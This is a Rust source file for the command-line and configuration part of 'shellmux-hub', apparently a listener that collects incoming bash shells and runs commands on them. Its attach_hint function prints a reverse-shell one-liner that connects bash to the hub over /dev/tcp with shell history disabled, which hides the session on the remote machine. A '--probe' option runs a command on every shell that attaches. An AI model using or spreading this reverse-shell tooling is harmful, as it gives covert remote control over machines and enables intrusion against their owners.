//! Command-line arguments and configuration loading

use anyhow::{Context, Result};
use clap::Parser;
use shellmux::HubConfig;
use std::net::SocketAddr;
use std::path::PathBuf;
use std::time::Duration;

#[derive(Parser, Debug)]
#[command(name = "shellmux-hub", version, about = "Attach remote bash shells and run commands on them")]
pub struct Cli {
    /// Address to accept shells on
    #[arg(long, value_name = "ADDR", default_value = "127.0.0.1:4349", env = "SHELLMUX_LISTEN")]
    pub listen: SocketAddr,

    /// JSON file with hub settings, overridden by the flags below
    #[arg(long, value_name = "FILE")]
    pub config: Option<PathBuf>,

    /// How long a new connection may stay silent before it counts as a shell
    #[arg(long, value_name = "MS")]
    pub classify_window_ms: Option<u64>,

    /// How long to wait for a shell to dial back for a command
    #[arg(long, value_name = "MS")]
    pub stream_timeout_ms: Option<u64>,

    /// Command to run on every shell that attaches; its output is logged
    #[arg(long, value_name = "COMMAND")]
    pub probe: Option<String>,

    /// Log as JSON lines
    #[arg(long)]
    pub log_json: bool,
}

impl Cli {
    /// Hub settings from the config file, then the flags
    pub fn hub_config(&self) -> Result<HubConfig> {
        let mut config = match &self.config {
            Some(path) => {
                let raw = std::fs::read_to_string(path)
                    .with_context(|| format!("failed to read config {}", path.display()))?;
                serde_json::from_str(&raw)
                    .with_context(|| format!("invalid config {}", path.display()))?
            }
            None => HubConfig::default(),
        };

        if let Some(ms) = self.classify_window_ms {
            config.classify_window = Duration::from_millis(ms);
        }
        if let Some(ms) = self.stream_timeout_ms {
            config.stream_open_timeout = Duration::from_millis(ms);
        }

        config.validate()?;
        Ok(config)
    }
}

/// One-liner that attaches a bash on the remote machine to `addr`
pub fn attach_hint(addr: SocketAddr) -> String {
    let host = if addr.ip().is_unspecified() {
        "<host>".to_string()
    } else {
        addr.ip().to_string()
    };
    format!("bash +o history -i 0<>/dev/tcp/{}/{}", host, addr.port())
}
